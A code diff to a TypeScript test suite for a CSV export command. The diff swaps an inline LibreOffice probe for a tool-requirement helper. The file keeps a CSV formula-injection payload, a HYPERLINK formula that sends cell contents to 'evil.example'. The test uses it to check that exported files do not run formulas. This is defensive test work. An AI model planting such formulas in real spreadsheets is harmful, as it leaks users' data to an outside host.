@@ -6,6 +6,7 @@ import { join } from 'node:path';
 import Database from 'better-sqlite3';
 import JSZip from 'jszip';
 import { cpro, cproJson, tempDir, FIXTURES } from '../helpers/cli.js';
+import { requireTool } from '../helpers/tools.js';
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1;"Cliquez ici")';
 
@@ -105,22 +106,8 @@ describe('cpro export --format csv', () => {
     expect(readFileSync(join(dir, 'fin-annee', 'portfolios.csv'), 'utf8')).toContain('PFMP 2;ACCARDO;Aline;110480123AA;Fragrance Plus;4;2;1;3;accardo-aline.yaml;');
   });
 
-  const calc = (() => {
-    // LibreOffice Calc must be able to import a CSV here, else the check is skipped (visibly, below).
-    const probe = tempDir('cpro-lo-');
-    try {
-      writeFileSync(join(probe.dir, 'p.csv'), 'a;b\r\n1;2\r\n');
-      const r = spawnSync('soffice', [`-env:UserInstallation=file://${probe.dir}/profile`, '--headless', '--convert-to', 'xlsx', '--outdir', probe.dir, join(probe.dir, 'p.csv')], { encoding: 'utf8', timeout: 120_000 });
-      return r.status === 0 && readdirSync(probe.dir).includes('p.xlsx');
-    } catch {
-      return false;
-    } finally {
-      probe.cleanup();
-    }
-  })();
-  if (!calc) console.warn('SKIPPED: LibreOffice Calc (soffice) is not installed: the CSV was not opened in LibreOffice.');
-
-  it.skipIf(!calc)('opens in LibreOffice Calc with accents intact and no formula run, even with formula evaluation on', async () => {
+  it('opens in LibreOffice Calc with accents intact and no formula run, even with formula evaluation on', async (ctx) => {
+    const soffice = requireTool('soffice-calc', ctx);
     const work = tempDir('cpro-lo-');
     try {
       // A control file proves the import would have run an unprotected formula.
@@ -131,7 +118,7 @@ describe('cpro export --format csv', () => {
       const sheets: Record<string, { formulas: number; strings: string }> = {};
       for (const [name, bytes] of Object.entries(files)) {
         writeFileSync(join(work.dir, `${name}.csv`), bytes);
-        const r = spawnSync('soffice', [
+        const r = spawnSync(soffice, [
           `-env:UserInstallation=file://${work.dir}/profile`, '--headless',
           // ; separator, " quotes, UTF-8, from line 1, French, …, evaluate formulas: true
           '--infilter=CSV:59,34,76,1,,1036,false,false,false,false,false,-1,true',
